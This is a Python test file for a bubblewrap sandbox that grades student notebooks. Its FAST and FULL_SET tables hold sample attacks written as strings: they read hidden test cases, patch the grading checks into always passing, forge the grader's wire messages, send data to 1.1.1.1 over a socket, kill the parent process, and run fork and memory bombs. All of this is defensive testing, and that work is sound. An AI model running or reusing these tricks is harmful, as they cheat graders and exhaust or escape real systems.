"""Grading as a dishonest or careless student would try it: the sandbox (course/grading/).

Each attack sits in one exercise cell of a submission; the rest of that submission is honest.
Every attack must score 0 for its exercise with a reason, leave the rest of the submission graded,
the repository byte for byte as it was, nothing written outside the sandbox's scratch folder, no
process behind, and an honest student's rows exactly as when graded alone.

The fast set (one notebook) runs in ``make test``; the whole set (kills, endless loops, memory
and fork bombs, …, about half a minute) runs with SANDBOX_FULL=1: ``make test-sandbox``, in CI.
Without bubblewrap these tests are skipped, unless SANDBOX_REQUIRED=1 (CI) makes that a failure.
"""

import hashlib
import os
import subprocess
import time
from pathlib import Path

import nbformat
import numpy as np
import pytest

from course import synthetic_class
from course.grading import notebooks, runner, sandbox, submissions, wire

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENTS = notebooks.discover(ROOT / "notebooks")
MARK = "sandbox-test-" + hashlib.sha1(str(os.getpid()).encode()).hexdigest()[:10]
FULL = os.environ.get("SANDBOX_FULL") == "1"

if sandbox.bwrap() is None and os.environ.get("SANDBOX_REQUIRED") == "1":
    raise RuntimeError("SANDBOX_REQUIRED=1 but bubblewrap (bwrap) is not installed")
pytestmark = pytest.mark.skipif(sandbox.bwrap() is None, reason="bubblewrap is not installed")

OUTSIDE = [ROOT / f"{MARK}.txt", Path.home() / f"{MARK}.txt", Path("/tmp") / f"{MARK}.txt",
           Path("/var/tmp") / f"{MARK}.txt"]
WATCHED = [ROOT / "README.md", ROOT / "course" / "grading" / "hidden_cases.py",
           ROOT / "exercises" / "checks.py", ROOT / "notebooks" / "02_forward_pass.ipynb"]

# target -> (the code that replaces the solution region, words its reason must contain)
FAST = {
    "h1": (f"import json\n"
           f"nb = json.load(open({str(ROOT / 'notebooks' / '02_forward_pass.ipynb')!r}))\n"
           f"exec(open({str(ROOT / 'course' / 'grading' / 'hidden_cases.py')!r}).read())\n"
           f"h1 = x @ w1", "FileNotFoundError"),
    "h1_relu": ("import builtins, sys\n"
                "np.allclose = np.array_equal = lambda *a, **k: True\n"
                "builtins.isinstance = lambda *a: True\n"
                "for m in list(sys.modules.values()):\n"
                "    for f in ('check_forward', 'compare', 'close'):\n"
                "        try:\n"
                "            setattr(m, f, lambda *a, **k: None)\n"
                "        except Exception:\n"
                "            pass\n"
                "h1_relu = np.zeros((1, 1))", ""),     # 0 either way: a shape, or its own crash
    "h2": ("import os\n"
           + "".join(f"try:\n    open({str(p)!r}, 'a').write('written by a student')\n"
                     f"except OSError:\n    pass\n" for p in OUTSIDE + WATCHED)
           + "try:\n    if os.fork() == 0:\n        import time\n        time.sleep(4242)\n"
           "except OSError:\n    pass\n"
           "h2 = np.zeros((1, 1))", "shape"),
    "h2_relu": ("import os, json, struct\n"
                "fake = json.dumps({'op': 'result', 'values': {}, 'passed': True, 'points': 1,"
                " 'nblobs': 0}).encode()\n"
                "done = json.dumps({'op': 'done', 'status': 0, 'nblobs': 0}).encode()\n"
                "for fd in range(64):\n"
                "    for msg in (fake, done):\n"
                "        try:\n"
                "            os.write(fd, struct.pack('>I', len(msg)) + msg)\n"
                "        except OSError:\n"
                "            pass\n"
                "print('{\"passed\": true, \"points\": 1}')\n"
                "h2_relu = 'passed'", "h2_relu"),
    "y_pred": ("y_pred = helpers.forward(params, x)[0]", "reference implementation"),
    "L": ("import socket\n"
          "socket.create_connection(('1.1.1.1', 53), timeout=2).sendall(b'grades')\n"
          "L = np.sum((y_pred - y) ** 2)", "OSError"),
}

FULL_SET = {
    "dy": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\ndy = 2 * (y_pred - y)",
           "died"),
    "dw3": ("import signal\n"
            "for s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU,"
            " signal.SIGHUP):\n"
            "    signal.signal(s, signal.SIG_IGN)\n"
            "while True:\n"
            "    try:\n"
            "        pass\n"
            "    except BaseException:\n"
            "        pass", "time limit"),
    "db3": ("hog = np.ones(1 << 28)                           # 2 GiB, over the 1 GiB limit\n"
            "db3 = dy.sum(axis=0, keepdims=True)", "MemoryError"),
    "dh2": ("import os\n"
            "while True:\n"
            "    try:\n"
            "        os.fork()\n"
            "    except OSError:\n"
            "        pass", "time limit"),
    "dw2": ("chunk = b'x' * (1 << 20)\n"
            "with open('/tmp/fill', 'wb') as f:\n"
            "    while True:\n"
            "        f.write(chunk)", "OSError"),
    "db2": ("while True:\n    print('x' * 10_000)", "time limit"),
    "dh1": ("from helpers import backward\n"
            "dh1 = backward(params, x, y, forward(params, x)[1]) and None", "reference"),
    "dw1": ("import course.grading.harness as h\nh.describe = None\ndw1 = x.T @ dh1",
            "reference"),
    "db1": ("import os, subprocess\n"
            "try:\n"
            "    subprocess.Popen(['sleep', '4242'], start_new_session=True)\n"
            "except OSError:\n"
            "    pass\n"
            "try:\n"
            "    if os.fork() == 0:\n"
            "        os.setsid()\n"
            "        if os.fork() == 0:\n"
            "            import time\n"
            "            time.sleep(4242)\n"
            "        os._exit(0)\n"
            "except OSError:\n"
            "    pass\n"
            "db1 = np.ones((1, n)) @ dh1", None),                    # honest value, stray process
    # 07's region is the body of central_difference(params, x, y, name, epsilon)
    "central_difference": ("return backward(params, x, y, forward(params, x)[1])[name]",
                           "reference"),
    "new_params": ("import ctypes\nctypes.string_at(0)", "died"),
}


def _notebooks(regions):
    """{name: student notebook answered with the solutions, ``regions`` replacing some}."""
    return {n: synthetic_class._filled(nbformat.read(ROOT / "student" / n, as_version=4), a,
                                       regions)
            for n, a in ASSIGNMENTS.items()}


def _submission(folder, student, names, regions):
    (folder / student).mkdir(parents=True)
    for n, nb in _notebooks(regions).items():
        if n in names:
            nbformat.write(nb, folder / student / n)
    return submissions.Submission(student, sorted((folder / student).iterdir()))


def _state():
    """What must not change: the repository's files and status, the places outside."""
    status = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=ROOT,
                            capture_output=True, text=True).stdout
    return (status, [hashlib.sha256(p.read_bytes()).hexdigest() for p in WATCHED],
            [p.exists() for p in OUTSIDE])


def _left_behind():
    """Processes of this test's sandboxes still running (their command lines carry MARK, or
    they are the strays the attacks start), once the kernel has had a moment to end them."""
    for _ in range(50):
        out = _running()
        if not out:
            break
        time.sleep(0.1)
    return out


def _running():
    out = []
    for p in Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                cmd = (p / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if MARK in cmd or "sleep 4242" in cmd:
                out.append(f"{p.name}: {cmd[:80]}")
    return out


@pytest.fixture()
def marked(monkeypatch):
    monkeypatch.setattr(sandbox, "CHILD_SOURCE", f"# {MARK}\n" + sandbox.CHILD_SOURCE)


def _key(rows):
    return [(r["cell_id"], r["points"], r["mistake"], r["notes"]) for r in rows]


def _attack(tmp_path, attacks, time_limit=2.0, honest_notebooks=()):
    names = {e.notebook for e in _exercises(attacks)} | set(honest_notebooks)
    assignments = {n: a for n, a in ASSIGNMENTS.items() if n in names}
    limits = runner.Limits(time_limit=time_limit)
    honest = _submission(tmp_path / "alone", "honest", names, {})
    alone = runner.grade_submission(honest, assignments, limits)
    before = _state()
    subs = [_submission(tmp_path / "class", "cheater", names,
                        {t: code for t, (code, _) in attacks.items()}),
            _submission(tmp_path / "class", "honest", names, {})]
    rows = runner.grade_class(subs, assignments, limits, jobs=1)
    assert _state() == before
    assert _left_behind() == []
    assert _key([r for r in rows if r["student"] == "honest"]) == _key(alone)
    assert all(r["passed"] for r in alone)
    cheat = {r["cell_id"]: r for r in rows if r["student"] == "cheater"}
    for e in _exercises(attacks):
        code, words = next(attacks[t] for t in e.targets if t in attacks)
        r = cheat.pop(e.cell_id)
        if words is None:
            continue
        assert r["points"] == 0, f"{e.name}: {r}"
        assert words in r["mistake"], f"{e.name}: {r['mistake']}"
    assert cheat and all(r["passed"] for r in cheat.values()), cheat   # the rest is graded


def _exercises(attacks):
    return [e for a in ASSIGNMENTS.values() for e in a.exercises
            if any(t in attacks for t in e.targets)]


def test_fast_attacks_score_zero_and_change_nothing(tmp_path, marked):
    fast = {k: v for k, v in FAST.items() if k != "L"}            # L stays honest: the rest
    _attack(tmp_path, fast)


def test_no_network_in_the_sandbox(tmp_path, marked):
    sub = _submission(tmp_path, "s", {"02_forward_pass.ipynb"}, {"L": FAST["L"][0]})
    rows = runner.grade_submission(sub, {"02_forward_pass.ipynb":
                                         ASSIGNMENTS["02_forward_pass.ipynb"]}, runner.Limits())
    (r,) = [r for r in rows if r["exercise"] == "L"]
    assert r["points"] == 0 and "OSError" in r["mistake"] and "unreachable" in r["mistake"]


def test_a_cell_cannot_start_a_process(tmp_path, marked):
    code = "import subprocess\nsubprocess.run(['true'])\nh1 = x @ w1 + b1"
    sub = _submission(tmp_path, "s", {"02_forward_pass.ipynb"}, {"h1": code})
    rows = runner.grade_submission(sub, {"02_forward_pass.ipynb":
                                         ASSIGNMENTS["02_forward_pass.ipynb"]}, runner.Limits())
    (r,) = [r for r in rows if r["exercise"] == "h1"]
    assert r["points"] == 0 and "BlockingIOError" in r["mistake"], r["mistake"]
    assert all(r["passed"] for r in rows if r["exercise"] != "h1")


def test_an_answer_by_the_reference_scores_0_but_an_own_forward_is_fine(tmp_path, marked):
    name = "07_gradient_checking.ipynb"
    own = ("def forward(params, x):                    # the student's own, not helpers'\n"
           "    h1 = np.maximum(x @ params['w1'] + params['b1'], 0)\n"
           "    h2 = np.maximum(h1 @ params['w2'] + params['b2'], 0)\n"
           "    return h2 @ params['w3'] + params['b3'], None\n"
           "for i in np.ndindex(p.shape):\n"
           "    keep = p[i]\n"
           "    p[i] = keep + epsilon\n"
           "    up = np.sum((forward(params, x)[0] - y) ** 2)\n"
           "    p[i] = keep - epsilon\n"
           "    down = np.sum((forward(params, x)[0] - y) ** 2)\n"
           "    p[i] = keep\n"
           "    estimate[i] = (up - down) / (2 * epsilon)")
    for code, passed in ((own, True), (FULL_SET["central_difference"][0], False)):
        folder = tmp_path / str(passed)
        sub = _submission(folder, "s", {name}, {"central_difference": code})
        (r,) = runner.grade_submission(sub, {name: ASSIGNMENTS[name]}, runner.Limits())
        assert r["passed"] is passed, r["mistake"]
        if not passed:
            assert "uses backward" in r["mistake"] and "reference implementation" in \
                r["mistake"]


def test_the_wire_carries_data_only():
    blobs = []
    tree = wire.encode({"a": np.arange(6.0).reshape(2, 3), "s": np.float64(2.5), "n": 3,
                         "t": (1, [True, None]), "f": len, "o": np.array([object()])}, blobs)
    back = wire.decode(tree, blobs)
    assert np.array_equal(back["a"], np.arange(6.0).reshape(2, 3)) and back["a"].flags.writeable
    assert type(back["s"]) is np.float64 and back["t"] == (1, [True, None])
    assert isinstance(back["f"], wire.Opaque) and back["f"].callable
    assert isinstance(back["o"], wire.Opaque) and not back["o"].callable
    for bad in ({"a": [0, "|O8", [1]]}, {"a": [0, "<f8", [5]]}, {"z": 1}, {"a": [3, "<f8", []]}):
        with pytest.raises(wire.WireError):
            wire.decode(bad, [b"\0" * 8])


@pytest.mark.skipif(not FULL, reason="the whole set: make test-sandbox (SANDBOX_FULL=1)")
def test_the_whole_set_of_attacks_in_one_class(tmp_path, marked):
    _attack(tmp_path, {**FAST, **FULL_SET}, time_limit=1.0,
            honest_notebooks=["11_beyond_the_paper.ipynb"])
